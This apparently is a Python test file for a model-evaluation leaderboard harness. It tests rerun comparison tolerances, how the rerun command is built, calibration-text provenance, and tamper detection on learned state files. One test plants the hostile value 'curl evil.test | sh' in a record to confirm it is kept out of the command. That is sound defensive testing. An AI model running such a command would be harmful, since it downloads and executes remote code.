"""Documents that are run again are compared within what two machines may differ by."""

from pathlib import Path
from typing import Any

import pytest
import torch

from harness.contract.prepared import Prepared
from harness.leaderboard.rerun import arguments, asked_text, compared
from harness.leaderboard.results import Result, load
from harness.leaderboard.submit import learned as learned_files
from harness.leaderboard.validate import validate
from tests.leaderboard.tampered import Submission

RECORD: dict[str, Any] = {"model": {"dtype": "float32"}, "method": {"kernels": {}}}


def lines(count: int = 20, **values: Any) -> list[dict[str, Any]]:
    base = {"task": "t", "doc_hash": "a" * 16, "target": "x", "prompt_tokens": 3, "depth": 0.5, "answer": "choice 0"}
    scored = {"scores": {"acc,none": 1.0}, "responses": [[[-1.0, True]], [[-2.0, False]]]}
    return [{**base, **scored, "doc_id": number, **values} for number in range(count)]


def problems(changes: dict[int, dict[str, Any]], record: dict[str, Any] = RECORD, **values: Any) -> list[str]:
    again = {("t", line["doc_id"]): {**line, **changes.get(line["doc_id"], {})} for line in lines(**values)}
    return list(compared(record, lines(**values), again))


def near(distance: float) -> dict[str, Any]:
    return {"responses": [[[-1.0 - distance, True]], [[-2.0, False]]]}


TEXTS = {"responses": [[" 12"]], "answer": "12"}
OTHER = {"responses": [[" 13"]], "answer": "13"}


@pytest.mark.parametrize(
    ("changes", "record", "values", "sentence"),
    [
        ({}, RECORD, {}, None),
        ({3: near(9e-4)}, RECORD, {}, None),
        ({3: near(2e-3)}, RECORD, {}, "another log-likelihood"),
        ({3: near(0.05), 4: near(0.05)}, {**RECORD, "model": {"dtype": "bfloat16"}}, {}, None),
        ({3: near(0.5), 4: near(0.5)}, {**RECORD, "model": {"dtype": "bfloat16"}}, {}, "another log-likelihood"),
        ({3: OTHER}, RECORD, TEXTS, None),
        ({3: OTHER, 4: OTHER}, RECORD, TEXTS, "another answer"),
        ({3: {"depth": 1.0}, 4: {"depth": 1.0}}, RECORD, {}, "another depth"),
        ({3: {"scores": {"acc,none": 0.0}}}, RECORD, TEXTS, "another score"),
        ({3: OTHER | {"scores": {"acc,none": 0.0}}}, RECORD, TEXTS, None),
        ({3: {"flops": 90}, 4: {"flops": 90}}, RECORD, {"flops": 100}, "another work"),
        ({3: {"doc_hash": "b" * 64}}, RECORD, {}, "is not that of the task"),
        ({3: {"target": "y"}}, RECORD, {}, "is not that of the task"),
        ({3: {"prompt_tokens": 9}}, RECORD, {}, "prompt tokens"),
    ],
)
def test_documents_agree_within_what_machines_differ_by(
    changes: Any, record: Any, values: Any, sentence: str | None
) -> None:
    found = problems(changes, record, **values)
    assert found == [] if sentence is None else any(sentence in text for text in found)


def test_a_document_that_the_task_does_not_have_is_said() -> None:
    assert "is none of the task's" in next(iter(compared(RECORD, lines(1), {})))


def test_the_command_is_made_of_known_fields_and_no_value_becomes_a_flag() -> None:
    asked = {"task": "--config=x", "num_fewshot": None, "batch_size": 4, "gen_kwargs": None, "seeds": [0, 1, 2, None]}
    asked |= {"apply_chat_template": False, "system_instruction": None, "score_mode": "lm-eval", "score_suffix": None}
    record = {
        "evaluation": asked,
        "model": {"pretrained": "-x", "args": {}},
        "method": {"kernel_asked": None, "calibration": None},
    }
    command = arguments(record | {"command": "curl evil.test | sh"}, "m", lines(2))
    assert {"--tasks=--config=x", "--pretrained=-x", "--seed=0,1,2,None", '--samples={"t": [0, 1]}'} <= set(command)
    assert {"--offline", "--no_baseline"} <= set(command)
    assert not any("evil" in word for word in command)


@pytest.mark.parametrize(
    ("text", "asked"),
    [
        (None, "task"),
        ("the training split of t, 256 documents", "task"),
        ("the bundled text, 12 documents", "bundled"),
        ("the training split of another, 256 documents", None),
        ("text of cimec/lambada,plain_text, split validation, 256 documents", None),
        ("the file mine.txt, 1 document", None),
    ],
)
def test_a_method_is_prepared_on_the_text_that_it_was_prepared_on(text: str | None, asked: str | None) -> None:
    assert asked_text({"method": {"calibration": text}, "evaluation": {"task": "t"}}) == asked


def test_what_a_method_learned_travels_with_it_if_it_is_small(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, victim: Submission, board: Path
) -> None:
    monkeypatch.setenv("HARNESS_CACHE", str(tmp_path / "cache"))
    result = load(victim.folder)
    method, model = dict(result.record["method"]), result.record["model"]
    method |= {"params": [{"state": None}], "state": [{"chosen": [1]}]}
    learned = Result(result.folder, {**result.record, "method": method})
    assert learned_files(learned) == {}
    key = {"name": method["name"], "model": model["fingerprint"]}
    folder = tmp_path / "cache" / "prepared" / "a"
    Prepared({"weight": torch.ones(2)}, {"chosen": [1]}).save(folder, key)
    files = learned_files(learned)
    assert files.keys() == {"state.json", "state.safetensors"}
    for name, content in files.items():
        (victim.folder / name).write_bytes(content)
    victim.sign()
    assert validate(board).findings == []
    (victim.folder / "state.safetensors").write_bytes(b"\xff" * 100)
    assert any("state.safetensors" in finding.text for finding in validate(board).findings)
